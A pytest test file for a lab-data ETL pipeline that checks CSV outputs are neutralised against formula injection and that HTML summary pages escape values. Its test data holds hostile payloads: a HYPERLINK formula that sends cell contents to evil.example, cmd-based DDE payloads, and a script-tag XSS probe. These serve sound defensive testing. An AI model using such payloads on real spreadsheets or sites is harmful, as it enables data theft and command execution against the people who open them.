"""Issue 10, point 2: no cell of a CSV labsync writes starts with a formula character, and the
value survives: labsync's own reader strips the one-character prefix it adds. HTML stays escaped."""

from __future__ import annotations

import csv
from dataclasses import replace

import pytest
import sqlalchemy as sa
from markupsafe import escape  # Jinja2's own escaping (the summary page)

from etl.intake.validate import validate_file
from tests.helpers import seed_row, write_csv

# OWASP's list, plus the fullwidth forms some Excel locales also read as a formula start
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# (column, hostile value): each breaks a rule, so it lands in the rejects report
HOSTILE = [
    ("race", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("gender", "+cmd|' /C calc'!A0"),
    ("email", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("dob", "-2+3"),
    ("ethnicity", "=1+1"),
    ("state", "\uff1d1+1"),  # fullwidth equals: some Excel locales treat it as '='
    # starts with an apostrophe: must survive the round trip exactly (`'=1+1` would not: in a
    # batch that is labsync's own prefix, stripped on input so FILE.fix.csv comes back as written)
    ("phone_country_code", "'x=1+1"),
    ("country", "'"),
    ("participant_language", "@"),
]


@pytest.mark.parametrize("value", [
    "=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "'", "''", "'=1", "\uff1d1", "\uff0b1", "\uff0d1",
    "\uff201", "", "plain", "a=b", " =1", "0123",
])
def test_safe_cell_neutralises_and_the_reader_gets_the_value_back(value):
    from etl.intake.csvsafe import safe_cell, unsafe_cell

    cell = safe_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert unsafe_cell(cell) == value


def test_no_cell_of_a_rejects_file_starts_with_a_formula_character(tmp_path, engine):
    from etl.intake import records

    rows = [seed_row(client_order_id=f"=X{i}" if i == 0 else f"ORD-{i}", **{col: value})
            for i, (col, value) in enumerate(HOSTILE)]
    path = write_csv(tmp_path / "formulas.csv", rows)
    batch_id, validation = records.open_batch(engine, path)
    validation.run()
    result = records.close_batch(engine, batch_id, validation)
    assert result.rejected_rows == len(HOSTILE)

    with open(result.rejects_path, encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert bad == [], bad

    # labsync's reader gets every value back exactly, and so does the warehouse, except the
    # cells of PHI columns (issue 23): those stay in the reports beside the file only
    from etl.intake.csvsafe import read_rows
    from schemas.columns import is_phi

    got = {(r["column"], r["value"]) for r in read_rows(result.rejects_path)}
    for col, value in HOSTILE:
        assert (col, value) in got
    with engine.connect() as conn:
        stored = set(conn.execute(sa.text("SELECT column_name, value FROM rejected_rows")).all())
    for col, value in HOSTILE:
        assert (col, None if is_phi(col) else value) in stored
    assert {c for c, _ in HOSTILE if is_phi(c)} == {"email", "dob"}  # both kinds are covered


def test_the_summary_page_shows_the_values_escaped(tmp_path, settings, sandbox, engine):
    from etl.orders import inbox

    box = settings.inbox
    box.mkdir(parents=True)
    rows = [seed_row(client_order_id=f"ORD-{i}", **{col: value}) for i, (col, value) in enumerate(HOSTILE)]
    rows[0]["race"] = "<script>alert(1)</script>"
    write_csv(box / "formulas.csv", rows)
    outcomes = inbox.run_once(engine, replace(settings, inbox_settle_seconds=0.0)).outcomes
    page = (box / "processed" / "formulas.summary.html").read_text(encoding="utf-8")
    assert outcomes[0]["status"] == "loaded"
    assert "<script>" not in page and str(escape("<script>alert(1)</script>")) in page
    assert str(escape(HOSTILE[1][1])) in page  # the value itself, without the report's prefix


def test_every_csv_writer_goes_through_the_safe_writer(tmp_path):
    from etl.intake.csvsafe import read_rows, write_rows

    out = tmp_path / "x.csv"
    write_rows(out, ["a", "=b"], [["=1", "-2"], ["@3", "ok"]])
    assert out.read_bytes().startswith(b"\xef\xbb\xbfa,'=b\r\n")  # BOM and CRLF, for Excel
    with open(out, encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f)) == [["a", "'=b"], ["'=1", "'-2"], ["'@3", "ok"]]
    assert list(read_rows(out)) == [{"a": "=1", "=b": "-2"}, {"a": "@3", "=b": "ok"}]
    # and the validator's rejects report is one of them (no second writer)
    bad = write_csv(tmp_path / "b.csv", [seed_row(race="=1")])
    result = validate_file(bad)
    with open(result.rejects_path, encoding="utf-8", newline="") as f:
        assert "'=1" in f.read()
